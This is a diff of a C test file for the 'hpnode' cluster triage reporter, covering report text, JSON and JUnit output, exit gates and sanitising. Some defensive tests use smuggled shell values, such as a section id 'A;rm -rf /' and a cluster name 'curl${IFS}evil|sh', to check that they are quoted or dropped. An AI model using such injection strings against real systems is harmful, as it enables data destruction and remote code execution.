@@ -7,6 +7,8 @@
 #include <string.h>
 
 #include "hp/report.h"
+#include "hp/snapshot.h"
+#include "hp/text.h"
 #include "t.h"
 
 static const struct hp_check c_identity = {
@@ -105,6 +107,7 @@ static const char small_expected[] =
 	"    3. After a fix, confirm on the affected node: hpnode triage --cluster ml-cluster"
 	" --region us-west-2 --node <instance-id>\n"
 	"    4. To look inside a node, open an SSM session to it; see § K (Node Access via SSM).\n"
+	"    5. The cited sections, offline: hpnode explain A B F\n"
 	"\n"
 	"Cluster: ml-cluster  |  Region: us-west-2  |  Orchestrator: EKS\n"
 	"\n";
@@ -151,14 +154,137 @@ static void t_text_no_issues(void)
 	T_CONTAINS(out.buf, "  [WARN] GPU has 2 uncorrectable remapped rows" REF "J.1 (Cluster Status)\n");
 	T_CONTAINS(out.buf, "  [SKIP] EKS checks skipped: Slurm cluster\n");
 	T_CONTAINS(out.buf, "  9. Triage Summary\n" RULE
-		   "  No critical issues detected from available signals.\n\n  Next steps:\n");
+		   "  No critical issues detected from available signals.\n"
+		   "\n  Not checked (1):\n    - EKS checks skipped: Slurm cluster\n"
+		   "\n  Next steps:\n");
 	T_CONTAINS(out.buf, "hpnode triage --cluster ml-cluster --region us-west-2 --node <instance-id>");
 	T_NOT_CONTAINS(out.buf, "Issues found");
 	T_NOT_CONTAINS(out.buf, "[P0");
 	T_NOT_CONTAINS(out.buf, "[P1");
 	T_NOT_CONTAINS(out.buf, "[P2");
 	T_NOT_CONTAINS(out.buf, "Recommended next steps");
+	/* The WARN line's section is cited; the PASS line prints no pointer and is not. */
+	T_CONTAINS(out.buf, "    • The sections cited above, offline: hpnode explain J.1\n\nCluster:");
 	T_CONTAINS(out.buf, "\nCluster: ml-cluster  |  Region: us-west-2  |  Orchestrator: EKS\n\n");
+	hp_buf_release(&out);
+	hp_findings_release(&f);
+}
+
+/* What went unchecked (a failed call, a SKIP) is listed apart, issues or not; JSON counts it. */
+static void t_not_checked(void)
+{
+	static const struct hp_check c_api = {
+		.id = "api.vpc", .section = "K", .prio = HP_P1, .group = HP_GROUP_VPC,
+	};
+	struct hp_findings f = { 0 };
+	struct hp_buf out = HP_BUF_INIT(HP_MAX_PROC_OUT);
+	struct hp_emit em = { &c_status, &f };
+	cJSON *doc;
+
+	hp_emit(&em, HP_TAG_PASS, "Cluster status: InService");
+	hp_report_text(&f, &plain, &out);
+	T_NOT_CONTAINS(out.buf, "Not checked");
+	hp_buf_reset(&out);
+	em.check = &c_nodes;
+	hp_emitx(&em, HP_TAG_SKIP, HP_PNONE, NULL, NULL, "Node i-0abc not probed: node not Running");
+	hp_report_text(&f, &plain, &out);
+	T_CONTAINS(out.buf, "  No critical issues detected from available signals.\n"
+		   "\n  Not checked (1):\n"
+		   "    - Node i-0abc not probed: node not Running\n"
+		   "\n  Next steps:\n");
+	hp_buf_reset(&out);
+	em.check = &c_api;
+	hp_emitx(&em, HP_TAG_WARN, HP_P1, "K.2", NULL,
+		 "Could not run ec2:DescribeSecurityGroups (ExpiredToken) — VPC data not checked");
+	hp_report_text(&f, &plain, &out);
+	T_CONTAINS(out.buf, "  [P1 — Fix Soon]\n    → Could not run ec2:DescribeSecurityGroups");
+	T_CONTAINS(out.buf, "\n  Not checked (2):\n"
+		   "    - Node i-0abc not probed: node not Running\n"
+		   "    - Could not run ec2:DescribeSecurityGroups (ExpiredToken) — VPC data not checked"
+		   REF "K.2 (AWS Credentials)\n"
+		   "\n  Recommended next steps:\n");
+	hp_buf_reset(&out);
+	hp_report_json(&f, &plain, &out);
+	doc = cJSON_Parse(out.buf);
+	T_ASSERT(doc != NULL);
+	T_EQ(cJSON_GetObjectItem(cJSON_GetObjectItem(doc, "summary"), "not_checked")->valuedouble, 2);
+	T_EQ(cJSON_GetObjectItem(cJSON_GetObjectItem(doc, "summary"), "P1")->valuedouble, 1);
+	cJSON_Delete(doc);
+	hp_buf_release(&out);
+	hp_findings_release(&f);
+}
+
+/*
+ * --node: the node's findings and the cluster's about it stay; another
+ * node's, another group's, and subnets or groups its group does not use go.
+ */
+static void t_focus(void)
+{
+	static const struct hp_check c_vpc = {
+		.id = "network.vpc", .section = "B.1", .prio = HP_P1, .group = HP_GROUP_VPC,
+	};
+	struct hp_snapshot s;
+	struct hp_findings f = { 0 };
+	struct hp_emit em = { &c_nodes, &f };
+	struct hp_finding *x;
+	const char *me = "i-0aaa0000000000001";
+	size_t i;
+
+	hp_snapshot_init(&s);
+	hp_snapshot_set(&s, "cluster", cJSON_Parse(
+		"{\"ClusterName\":\"c\",\"VpcConfig\":{\"Subnets\":[\"subnet-0c0c0c0c0c0c0c0c0\"],"
+		"\"SecurityGroupIds\":[\"sg-0c0c0c0c0c0c0c0c0\"]},\"InstanceGroups\":["
+		"{\"InstanceGroupName\":\"gpu\",\"OverrideVpcConfig\":{\"Subnets\":[\"subnet-0a0a0a0a0a0a0a0a0\"],"
+		"\"SecurityGroupIds\":[\"sg-0a0a0a0a0a0a0a0a0\"]}},{\"InstanceGroupName\":\"cpu\"}]}"));
+	hp_snapshot_set(&s, "nodes", cJSON_Parse(
+		"[{\"InstanceId\":\"i-0aaa0000000000001\",\"InstanceGroupName\":\"gpu\"},"
+		"{\"InstanceId\":\"i-0bbb0000000000002\",\"InstanceGroupName\":\"cpu\"}]"));
+	T_STREQ(hp_report_node_group(&s, me), "gpu");
+	hp_emitx(&em, HP_TAG_FAIL, HP_P1, NULL, me, "keep: mine");
+	hp_emitx(&em, HP_TAG_FAIL, HP_P0, NULL, "i-0bbb0000000000002", "drop: another node's");
+	x = hp_emitx(&em, HP_TAG_FAIL, HP_P1, NULL, NULL, "keep: folded, me among them");
+	hp_finding_node(x, "i-0bbb0000000000002");
+	hp_finding_node(x, me);
+	x = hp_emitx(&em, HP_TAG_FAIL, HP_P1, NULL, NULL, "drop: folded, without me");
+	hp_finding_node(x, "i-0bbb0000000000002");
+	hp_emit(&em, HP_TAG_INFO, "keep: Total: 2  Running: 2");
+	hp_emitx(&em, HP_TAG_FAIL, HP_P1, NULL, NULL, "drop: Instance group 'cpu' has 1 of 2 nodes");
+	hp_emitx(&em, HP_TAG_WARN, HP_P2, NULL, NULL, "keep: Instance group 'gpu' runs ThreadsPerCore=1");
+	em.check = &c_vpc;
+	hp_emitx(&em, HP_TAG_FAIL, HP_P1, NULL, NULL, "drop: Subnet subnet-0c0c0c0c0c0c0c0c0 not found");
+	hp_emitx(&em, HP_TAG_FAIL, HP_P1, NULL, NULL,
+		 "keep: Subnet subnet-0a0a0a0a0a0a0a0a0 and subnet-0c0c0c0c0c0c0c0c0 in two VPCs");
+	hp_emitx(&em, HP_TAG_FAIL, HP_P0, NULL, NULL, "keep: sg-0a0a0a0a0a0a0a0a0 lacks the outbound rule");
+	hp_emitx(&em, HP_TAG_FAIL, HP_P0, NULL, NULL, "drop: sg-0c0c0c0c0c0c0c0c0 lacks the outbound rule");
+	i = hp_report_focus(&s, me, &f);
+	T_EQ(f.n, 6);
+	T_EQ(i, 5);
+	for (i = 0; i < f.n; i++)
+		if (!hp_starts_with(f.v[i].message, "keep: "))
+			T_FAILF("kept: %s", f.v[i].message);
+	hp_findings_release(&f);
+	hp_snapshot_release(&s);
+}
+
+/* Each cited id once, in report order; an id that is not plain never goes into the command. */
+static void t_text_explain_ids(void)
+{
+	struct hp_findings f = { 0 };
+	struct hp_buf out = HP_BUF_INIT(HP_MAX_PROC_OUT), one = HP_BUF_INIT(4096);
+	struct hp_emit em = { &c_nodes, &f };
+
+	hp_emitx(&em, HP_TAG_FAIL, HP_P1, "G.1+F", NULL, "one");
+	hp_emitx(&em, HP_TAG_FAIL, HP_P1, "F+G.1.a+G", NULL, "two");
+	hp_emitx(&em, HP_TAG_WARN, HP_P2, "A;rm -rf /+K.1", NULL, "three");
+	hp_emitx(&em, HP_TAG_PASS, HP_PNONE, "Z", NULL, "four");
+	hp_report_text(&f, &plain, &out);
+	T_CONTAINS(out.buf, "    5. The cited sections, offline: hpnode explain G.1 F G.1.a G K.1\n");
+	hp_report_explain(&one, &f.v[2]);
+	T_STREQ(one.buf, "hpnode explain K.1");
+	hp_buf_reset(&one);
+	hp_report_explain(&one, &f.v[3]);
+	T_STREQ(one.buf, "hpnode explain Z");
+	hp_buf_release(&one);
 	hp_buf_release(&out);
 	hp_findings_release(&f);
 }
@@ -314,11 +440,11 @@ static void t_text_color_only_difference(void)
 	o.color = 1;
 	hp_report_text(&f, &o, &b);
 	/* Removing the colour codes from the coloured report gives the plain one. */
-	hp_sanitize(b.buf, &stripped, HP_MAX_PROC_OUT);
+	hp_text_add(HP_TEXT_REPORT, b.buf, &stripped, HP_MAX_PROC_OUT);
 	{
 		struct hp_buf plain_flat = HP_BUF_INIT(HP_MAX_PROC_OUT);
 
-		hp_sanitize(a.buf, &plain_flat, HP_MAX_PROC_OUT);
+		hp_text_add(HP_TEXT_REPORT, a.buf, &plain_flat, HP_MAX_PROC_OUT);
 		T_STREQ(stripped.buf, plain_flat.buf);
 		hp_buf_release(&plain_flat);
 	}
@@ -333,7 +459,7 @@ static char *sanitized(const char *s, size_t max)
 {
 	struct hp_buf b = HP_BUF_INIT(HP_MAX_LINE);
 
-	hp_sanitize(s, &b, max);
+	hp_text_add(HP_TEXT_REPORT, s, &b, max);
 	return hp_buf_detach(&b, NULL);
 }
 
@@ -410,11 +536,11 @@ static void t_sanitize_appends(void)
 	struct hp_buf b = HP_BUF_INIT(HP_MAX_LINE);
 
 	hp_buf_puts(&b, "prefix:");
-	hp_sanitize("abcdef\x1b[0m", &b, 4);
+	hp_text_add(HP_TEXT_REPORT, "abcdef\x1b[0m", &b, 4);
 	T_STREQ(b.buf, "prefix:a…");
-	hp_sanitize(NULL, &b, 4);
+	hp_text_add(HP_TEXT_REPORT, NULL, &b, 4);
 	T_STREQ(b.buf, "prefix:a…");
-	hp_sanitize("€", &b, 100);
+	hp_text_add(HP_TEXT_REPORT, "€", &b, 100);
 	T_STREQ(b.buf, "prefix:a…€");
 	hp_buf_release(&b);
 }
@@ -436,7 +562,7 @@ static void t_sanitize_any_bytes(void)
 			in[i] = (unsigned char)((seed >> 16) % 255 + 1);
 		}
 		in[n] = '\0';
-		hp_sanitize((const char *)in, &b, max);
+		hp_text_add(HP_TEXT_REPORT, (const char *)in, &b, max);
 		T_ASSERT(b.len <= max);
 		T_ASSERT(strlen(b.buf) == b.len);
 		for (p = (const unsigned char *)b.buf; *p;) {
@@ -583,6 +709,7 @@ static void t_json(void)
 	T_ASSERT(jnull(it, "priority"));
 	T_STREQ(jstr(it, "section"), "J.1");
 	T_STREQ(jstr(it, "title"), "Cluster Status");
+	T_STREQ(jstr(it, "explain"), "hpnode explain J.1");
 
 	it = cJSON_GetArrayItem(list, 2);
 	T_STREQ(jstr(it, "check"), "events.signals");
@@ -590,6 +717,7 @@ static void t_json(void)
 	T_STREQ(jstr(it, "priority"), "P0");
 	T_STREQ(jstr(it, "section"), "A+B");
 	T_STREQ(jstr(it, "title"), "EFA / Security Group + VPC / Routing");
+	T_STREQ(jstr(it, "explain"), "hpnode explain A B");
 	T_STREQ(jstr(it, "group"), "Cluster Events (Root Cause Signals)");
 	T_STREQ(jstr(it, "message"), "EFA health check failure on i-0abc0000000000001 (2 events)");
 	T_STREQ(jstr(it, "node"), "i-0abc0000000000001");
@@ -606,6 +734,7 @@ static void t_json(void)
 	T_STREQ(jstr(it, "priority"), "P2");
 	T_ASSERT(jnull(it, "section"));
 	T_ASSERT(jnull(it, "title"));
+	T_ASSERT(jnull(it, "explain"));
 	T_STREQ(jstr(it, "group"), "CloudWatch Logs");
 
 	/* Sanitised: escapes gone, tab as space, bad byte as '?', DEL and C1 dropped. */
@@ -763,12 +892,70 @@ static void t_text_header(void)
 		   "Region: us-west-2  |  Orchestrator: EKS\n"
 		   "Replayed from snap.json, collected at 2025-12-31T23:00:00Z by hpnode 9.8.6\n"
 		   "PARTIAL REPORT \xe2\x80\x94 interrupted: 3 of 40 nodes probed (SIGINT); ");
-	/* Without the header lines, the report is byte for byte the one without a run. */
+	/* Without the header lines, the findings are byte for byte those of the report without a run. */
 	rest = strstr(b.buf, "nodes not probed are listed as skipped\n");
 	T_ASSERT(rest);
 	rest += strlen("nodes not probed are listed as skipped\n");
-	T_STREQ(rest, strstr(a.buf, "\n\xe2\x95\x90"));
+	T_ASSERT(strstr(rest, "9. Triage Summary") && strstr(a.buf, "9. Triage Summary"));
+	T_EQ((long)(strstr(rest, "9. Triage Summary") - rest),
+	     (long)(strstr(a.buf, "9. Triage Summary") - strstr(a.buf, "\n\xe2\x95\x90")));
+	T_ASSERT(!strncmp(rest, strstr(a.buf, "\n\xe2\x95\x90"),
+			  (size_t)(strstr(rest, "9. Triage Summary") - rest)));
+	/* The summary says the report is partial. */
+	HAS(b.buf, "  PARTIAL REPORT: the run was interrupted (SIGINT); 3 of 40 nodes probed. "
+		   "What was not read is not checked.\n");
 	hp_buf_release(&a);
+	hp_buf_release(&b);
+	hp_findings_release(&f);
+}
+
+/*
+ * A triage interrupted before its sweep: the phase and the unfinished ones
+ * in the header, the summary and "Not checked" (counted in JSON), never
+ * "no critical issues detected"; a replayed snapshot's phase ids are made safe.
+ */
+static void t_text_partial_phases(void)
+{
+	struct hp_report_run run = {
+		.started_ms = 1767225600000LL, .duration_ms = 1000, .interrupted = 15,
+		.interrupted_phase = "kube", .unfinished = { "kube", "probes", "\x1b[31mevil" },
+		.nunfinished = 3,
+	};
+	struct hp_report_opts o = plain;
+	struct hp_findings f = { 0 };
+	struct hp_buf b = HP_BUF_INIT(1 << 20);
+	cJSON *doc, *it;
+
+	o.run = &run;
+	hp_report_text(&f, &o, &b);
+	HAS(b.buf, "PARTIAL REPORT \xe2\x80\x94 interrupted during the Kubernetes reads (kubectl) "
+		   "(SIGTERM)\nNot finished: the Kubernetes reads (kubectl), the SSM probe sweep, ");
+	HAS(b.buf, "evil \xe2\x80\x94 what they did not read is not checked\n");
+	HAS(b.buf, "  PARTIAL REPORT: the run was interrupted (SIGTERM); not finished: the Kubernetes "
+		   "reads (kubectl), the SSM probe sweep, ");
+	HAS(b.buf, "evil. What was not read is not checked.\n"
+		   "\n  No critical issues in what was read before the interruption.\n"
+		   "\n  Not checked (3):\n"
+		   "    - the Kubernetes reads (kubectl): not finished (interrupted by SIGTERM)\n"
+		   "    - the SSM probe sweep: not finished (interrupted by SIGTERM)\n");
+	T_ASSERT(!strstr(b.buf, "No critical issues detected"));
+	T_ASSERT(!strchr(b.buf, '\x1b'));
+	hp_buf_reset(&b);
+	hp_report_json(&f, &o, &b);
+	doc = cJSON_Parse(b.buf);
+	T_ASSERT(doc != NULL);
+	it = cJSON_GetObjectItem(cJSON_GetObjectItem(doc, "run"), "interrupted");
+	T_STREQ(cJSON_GetObjectItem(it, "signal")->valuestring, "SIGTERM");
+	T_STREQ(cJSON_GetObjectItem(it, "phase")->valuestring, "kube");
+	T_EQ(cJSON_GetArraySize(cJSON_GetObjectItem(it, "unfinished")), 3);
+	T_STREQ(cJSON_GetArrayItem(cJSON_GetObjectItem(it, "unfinished"), 1)->valuestring, "probes");
+	T_EQ(cJSON_GetObjectItem(cJSON_GetObjectItem(doc, "summary"), "not_checked")->valuedouble, 3);
+	cJSON_Delete(doc);
+	hp_buf_reset(&b);
+	build_small(&f);
+	hp_report_junit(&f, &o, &b);
+	HAS(b.buf, "<property name=\"interrupted\" value=\"during the Kubernetes reads (kubectl); "
+		   "not finished: the Kubernetes reads (kubectl), the SSM probe sweep");
 	hp_buf_release(&b);
 	hp_findings_release(&f);
 }
@@ -811,7 +998,11 @@ static void t_node_sample(void)
 	hp_findings_release(&f);
 }
 
-/* JUnit: escaping, FAIL -> failure, WARN -> skipped "WARN", per-node testcases. */
+/*
+ * JUnit: escaping; a <failure> exactly for what the gate counts (P1 without
+ * --fail-on), whatever the tag; a WARN below it passes with its text in
+ * <system-out>; SKIP is <skipped>; per-node testcases; no root skipped count.
+ */
 static void t_junit(void)
 {
 	struct hp_findings f = { 0 };
@@ -822,21 +1013,197 @@ static void t_junit(void)
 	x = hp_emitx(&em, HP_TAG_FAIL, HP_P1, NULL, NULL, "Two nodes <bad> & \"odd\"");
 	hp_finding_node(x, "i-0000000000000000a");
 	hp_finding_node(x, "i-0000000000000000b");
+	hp_emitx(&em, HP_TAG_WARN, HP_P1, NULL, "i-0000000000000000c", "Node c is slow");
+	hp_emitx(&em, HP_TAG_SKIP, HP_PNONE, NULL, "i-0000000000000000d", "Node d not probed");
 	em.check = &c_logs;
 	hp_emitx(&em, HP_TAG_WARN, HP_P2, NULL, NULL, "Log group it's missing");
+	hp_findings_number_keys(&f);
 	hp_report_junit(&f, &plain, &b);
-	HAS(b.buf, "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<testsuites name=\"hpnode triage\" tests=\"3\" "
-		   "failures=\"2\" errors=\"0\" skipped=\"1\"");
-	HAS(b.buf, "<testcase classname=\"hpnode.nodes.status\" name=\"nodes.status i-0000000000000000a\" time=\"0\">\n"
+	HAS(b.buf, "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<testsuites name=\"hpnode triage\" tests=\"5\" "
+		   "failures=\"3\" errors=\"0\">\n");
+	HAS(b.buf, "<testcase classname=\"hpnode.nodes.status\" name=\"nodes.status/i-0000000000000000a\">\n"
 		   "      <failure message=\"[P1] Two nodes &lt;bad&gt; &amp; &quot;odd&quot; \xe2\x86\x92 "
 		   "references/node-diagnostics-detail.md \xc2\xa7 F (Hardware / Auto-Repair)\" type=\"FAIL P1\">");
-	HAS(b.buf, "name=\"nodes.status i-0000000000000000b\"");
-	HAS(b.buf, "<skipped message=\"[P2] WARN: Log group it&apos;s missing \xe2\x86\x92 ");
-	HAS(b.buf, "<testsuite name=\"6. CloudWatch Logs\" tests=\"1\" failures=\"0\" errors=\"0\" skipped=\"1\"");
+	HAS(b.buf, "name=\"nodes.status/i-0000000000000000b\">\n      <failure ");
+	/* A WARN at the gate's priority fails: the old <skipped> hid it from CI. */
+	HAS(b.buf, "name=\"nodes.status/i-0000000000000000c\">\n      <failure message=\"[P1] Node c is slow "
+		   "\xe2\x86\x92 references/node-diagnostics-detail.md \xc2\xa7 F (Hardware / Auto-Repair)\" "
+		   "type=\"WARN P1\">[WARN] Node c is slow");
+	HAS(b.buf, "name=\"nodes.status/i-0000000000000000d\">\n      <skipped message=\"Node d not probed\"/>\n"
+		   "      <system-out>[SKIP] Node d not probed</system-out>");
+	/* A P2 WARN is below the default gate: it passes, its text kept. */
+	HAS(b.buf, "<testcase classname=\"hpnode.logs.group\" name=\"logs.group\">\n      <system-out>[WARN] "
+		   "Log group it&apos;s missing \xe2\x86\x92 ");
+	HAS(b.buf, "<testsuite name=\"6. CloudWatch Logs\" tests=\"1\" failures=\"0\" errors=\"0\" skipped=\"0\" id=");
+	HAS(b.buf, "<testsuite name=\"3. Node Health Status\" tests=\"4\" failures=\"3\" errors=\"0\" skipped=\"1\" id=");
+	/* Without measured times and a start, no time and no timestamp is made up. */
+	T_ASSERT(!strstr(b.buf, "time="));
+	T_ASSERT(!strstr(b.buf, "timestamp="));
 	hp_buf_release(&b);
 	hp_findings_release(&f);
 }
 
+/* The gate decides: --fail-on P0 passes the P1s, --fail-on P2 fails the P2 WARN too. */
+static void t_junit_gate(void)
+{
+	struct hp_findings f = { 0 };
+	struct hp_emit em = { &c_nodes, &f };
+	struct hp_buf b = HP_BUF_INIT(1 << 20), line = HP_BUF_INIT(1 << 12);
+	struct hp_report_opts o = plain;
+	struct hp_gate g;
+	struct hp_finding *x;
+	double secs[HP_GROUP__COUNT] = { 0 };
+
+	x = hp_emitx(&em, HP_TAG_FAIL, HP_P1, NULL, NULL, "Full on 3 nodes");
+	hp_finding_node(x, "i-1");
+	hp_finding_node(x, "i-2");
+	hp_finding_node(x, "i-3");
+	em.check = &c_events;
+	hp_emitx(&em, HP_TAG_FAIL, HP_P0, NULL, "i-1", "EFA down");
+	em.check = &c_logs;
+	hp_emitx(&em, HP_TAG_WARN, HP_P2, NULL, NULL, "No log group");
+	hp_findings_number_keys(&f);
+
+	hp_report_gate(&f, HP_P0, 1, &g);
+	T_EQ(g.findings, 1);
+	T_EQ(g.keys, 1);
+	o.gate = &g;
+	hp_report_junit(&f, &o, &b);
+	HAS(b.buf, "tests=\"5\" failures=\"1\" errors=\"0\">");
+	HAS(b.buf, "name=\"nodes.status/i-1\">\n      <system-out>[FAIL] Full on 3 nodes");
+	hp_report_gate_line(&g, &line);
+	T_STREQ(line.buf, "--fail-on P0 counts 1 finding at P0 or worse (1 P0)");
+
+	hp_report_gate(&f, HP_P1, 1, &g);
+	T_EQ(g.findings, 2);
+	T_EQ(g.keys, 4);
+	hp_report_gate_line(&g, &line);
+	T_STREQ(line.buf, "--fail-on P1 counts 2 findings at P1 or worse (1 P0, 1 P1; 4 keys, one per "
+		"node of a finding about many nodes)");
+
+	hp_report_gate(&f, HP_P2, 1, &g);
+	T_EQ(g.keys, 5);
+	hp_buf_reset(&b);
+	secs[HP_GROUP_EVENTS] = 1.5;
+	secs[HP_GROUP_LOGS] = 0.000042;
+	o.group_s = secs;
+	hp_report_junit(&f, &o, &b);
+	HAS(b.buf, "tests=\"5\" failures=\"5\" errors=\"0\">");
+	HAS(b.buf, "name=\"logs.group\">\n      <failure message=\"[P2] No log group");
+	HAS(b.buf, "type=\"WARN P2\"");
+	/* Each suite its own checks' time, never the run's. */
+	HAS(b.buf, "<testsuite name=\"2. Cluster Events (Root Cause Signals)\" tests=\"1\" failures=\"1\" "
+		   "errors=\"0\" skipped=\"0\" time=\"1.500000\"");
+	HAS(b.buf, "<testsuite name=\"6. CloudWatch Logs\" tests=\"1\" failures=\"1\" errors=\"0\" "
+		   "skipped=\"0\" time=\"0.000042\"");
+	HAS(b.buf, "<testsuite name=\"3. Node Health Status\" tests=\"3\" failures=\"3\" errors=\"0\" "
+		   "skipped=\"0\" time=\"0.000000\"");
+
+	/* The text report names the gate when --fail-on was given, and only then. */
+	hp_buf_reset(&b);
+	hp_report_text(&f, &o, &b);
+	HAS(b.buf, "\n  Exit gate: --fail-on P2 counts 3 findings at P2 or worse (1 P0, 1 P1, 1 P2; "
+		   "5 keys, one per node of a finding about many nodes): exit status 3\n");
+	g.given = 0;
+	hp_buf_reset(&b);
+	hp_report_text(&f, &o, &b);
+	T_ASSERT(!strstr(b.buf, "Exit gate"));
+	hp_findings_release(&f);
+	memset(&f, 0, sizeof(f));
+	hp_report_gate(&f, HP_P1, 1, &g);
+	hp_report_gate_line(&g, &line);
+	T_STREQ(line.buf, "--fail-on P1 counts no finding at P1 or worse");
+	hp_buf_release(&b);
+	hp_buf_release(&line);
+}
+
+/*
+ * Findings of one check about one node are never merged: a PASS beside a
+ * FAIL with the same key, and two per-node findings about the same node,
+ * each have a testcase; the FAIL keeps the key, the others get ~n.
+ */
+static void t_junit_no_merging(void)
+{
+	struct hp_findings f = { 0 };
+	struct hp_emit em = { &c_nodes, &f };
+	struct hp_buf b = HP_BUF_INIT(1 << 20);
+	struct hp_finding *x;
+	const char *p;
+	size_t cases = 0;
+
+	hp_emitx(&em, HP_TAG_PASS, HP_PNONE, NULL, "i-1", "Disk fine on i-1");
+	hp_emitx(&em, HP_TAG_FAIL, HP_P1, NULL, "i-1", "Memory bad on i-1");
+	x = hp_emitx(&em, HP_TAG_PASS, HP_PNONE, NULL, NULL, "Time in sync on 2 nodes");
+	hp_finding_node(x, "i-1");
+	hp_finding_node(x, "i-2");
+	x = hp_emitx(&em, HP_TAG_WARN, HP_P1, NULL, NULL, "Clock drift on 2 nodes");
+	hp_finding_node(x, "i-1");
+	hp_finding_node(x, "i-2");
+	hp_findings_number_keys(&f);
+	hp_report_junit(&f, &plain, &b);
+	for (p = b.buf; (p = strstr(p, "<testcase ")); p++)
+		cases++;
+	T_EQ(cases, 6);
+	HAS(b.buf, "name=\"nodes.status/i-1\">\n      <failure message=\"[P1] Memory bad on i-1");
+	HAS(b.buf, "name=\"nodes.status/i-1~2\">\n      <system-out>[PASS] Disk fine on i-1</system-out>");
+	HAS(b.buf, "name=\"nodes.status/i-1~3\">\n      <system-out>[PASS] Time in sync on 2 nodes</system-out>");
+	HAS(b.buf, "name=\"nodes.status/i-1~4\">\n      <failure message=\"[P1] Clock drift on 2 nodes");
+	HAS(b.buf, "name=\"nodes.status/i-2~2\">\n      <system-out>[PASS] Time in sync on 2 nodes</system-out>");
+	HAS(b.buf, "name=\"nodes.status/i-2\">\n      <failure message=\"[P1] Clock drift on 2 nodes");
+	HAS(b.buf, "failures=\"3\"");
+	hp_buf_release(&b);
+	hp_findings_release(&f);
+}
+
+/* Remote text with noncharacters stays XML 1.0 text in every JUnit field (U+FFFD). */
+static void t_junit_nonchars(void)
+{
+	struct hp_findings f = { 0 };
+	struct hp_emit em = { &c_nodes, &f };
+	struct hp_buf b = HP_BUF_INIT(1 << 20);
+	struct hp_finding *x;
+
+	x = hp_emitx(&em, HP_TAG_FAIL, HP_P1, NULL, "i-\xef\xbf\xbf", "Status \xef\xbf\xbe bad");
+	hp_finding_evidence(x, "event \xef\xb7\x90 text");
+	hp_emitx(&em, HP_TAG_SKIP, HP_PNONE, NULL, NULL, "not run \xef\xbf\xbf");
+	hp_findings_number_keys(&f);
+	hp_report_junit(&f, &plain, &b);
+	T_ASSERT(!strstr(b.buf, "\xef\xbf\xbf") && !strstr(b.buf, "\xef\xbf\xbe") &&
+		 !strstr(b.buf, "\xef\xb7\x90"));
+	HAS(b.buf, "<failure message=\"[P1] Status \xef\xbf\xbd bad");
+	HAS(b.buf, "  event \xef\xbf\xbd text</failure>");
+	HAS(b.buf, "<skipped message=\"not run \xef\xbf\xbd\"/>");
+	hp_buf_release(&b);
+	hp_findings_release(&f);
+}
+
+/* The diff's JUnit too: XML 1.0 text through hp_xml_escape, a root junit-10.xsd allows. */
+static void t_diff_junit_escaped(void)
+{
+	struct hp_findings none = { 0 }, f = { 0 };
+	struct hp_emit em = { &c_nodes, &f };
+	struct hp_diff_side a, b;
+	struct hp_diff d;
+	struct hp_buf x = HP_BUF_INIT(1 << 20);
+
+	hp_emitx(&em, HP_TAG_FAIL, HP_P1, NULL, "i-1", "Status \xef\xbf\xbf <bad>");
+	hp_findings_number_keys(&f);
+	hp_diff_side_init(&a, "old.json", "report");
+	hp_diff_side_init(&b, "new.json", "report");
+	hp_diff_side_findings(&a, &none);
+	hp_diff_side_findings(&b, &f);
+	memset(&d, 0, sizeof(d));
+	hp_diff_compare(&d, &a, &b);
+	hp_diff_junit(&d, &x);
+	T_ASSERT(!strstr(x.buf, "\xef\xbf\xbf"));
+	HAS(x.buf, "Status \xef\xbf\xbd &lt;bad&gt;");
+	HAS(x.buf, "<testsuites name=\"hpnode diff\" tests=\"1\" failures=\"1\" errors=\"0\" time=\"0\">\n");
+	hp_buf_release(&x);
+	hp_diff_release(&d);
+	hp_diff_side_release(&a);
+	hp_diff_side_release(&b);
+	hp_findings_release(&f);
+}
 
 /* A folded finding over 2,500 nodes as fold.c makes it: 25 sample lines, then the ids. */
 static struct hp_finding *fold_2500(struct hp_emit *em, enum hp_tag tag, const char *msg)
@@ -903,12 +1270,14 @@ static void t_junit_and_json_at_2500_nodes(void)
 	hp_report_junit(&f, &plain, &x);
 	for (p = x.buf; (p = strstr(p, "<testcase ")); p++)
 		cases++;
-	T_EQ(cases, 2500);
+	/* A testcase per node of each finding: the WARN's and the PASS's, never merged. */
+	T_EQ(cases, 5000);
 	T_ASSERT(!strstr(x.buf, "nodes 1-100 of 2500"));
-	HAS(x.buf, "name=\"nodes.status i-00000000000002499\" time=\"0\">\n      <skipped message=\"[P1] WARN: "
+	HAS(x.buf, "name=\"nodes.status/i-00000000000002499\">\n      <failure message=\"[P1] "
 		   "Root volume over 90% full on 2500 nodes");
-	HAS(x.buf, "[PASS] Time in sync on 2500 nodes</system-out>");
-	HAS(x.buf, "  i-00000000000000024: root volume 91% used\n[PASS]");
+	HAS(x.buf, "name=\"nodes.status/i-00000000000002499~2\">\n      <system-out>[PASS] Time in sync "
+		   "on 2500 nodes</system-out>");
+	HAS(x.buf, "  i-00000000000000024: root volume 91% used</failure>");
 	/* Linear in the nodes: a few hundred bytes of case and the 25 sample lines each. */
 	T_ASSERT(x.len < 2500 * 6000);
 	hp_report_json(&f, &plain, &j);
@@ -990,7 +1359,42 @@ static void t_id_lines_then_evidence(void)
 	hp_findings_release(&f);
 }
 
-T_MAIN(T(t_junit_and_json_at_2500_nodes), T(t_id_lines_then_evidence), T(t_command_line), T(t_text_header), T(t_node_sample), T(t_junit), T(t_text_exact), T(t_text_no_issues), T(t_text_empty_and_null_opts), T(t_text_pointer_forms),
+/* A cluster name from a hostile reply or snapshot is one quoted word in the printed next step. */
+static void t_next_steps_quoted(void)
+{
+	struct hp_findings f = { 0 };
+	struct hp_buf out = HP_BUF_INIT(HP_MAX_PROC_OUT);
+	struct hp_emit em = { &c_status, &f };
+	struct hp_report_opts o = plain;
+
+	o.cluster = "hp-demo;curl${IFS}evil|sh";
+	o.region = "us-west-2 x";
+	hp_emit(&em, HP_TAG_PASS, "Cluster status: InService");
+	hp_report_text(&f, &o, &out);
+	T_CONTAINS(out.buf, "hpnode triage --cluster 'hp-demo;curl${IFS}evil|sh' --region 'us-west-2 x' "
+		   "--node <instance-id>\n");
+	hp_buf_reset(&out);
+	hp_emitx(&em, HP_TAG_FAIL, HP_P1, NULL, NULL, "a fault");
+	hp_report_text(&f, &o, &out);
+	T_CONTAINS(out.buf, "confirm on the affected node: hpnode triage --cluster "
+		   "'hp-demo;curl${IFS}evil|sh' --region 'us-west-2 x' --node <instance-id>\n");
+	hp_buf_release(&out);
+	hp_findings_release(&f);
+}
+
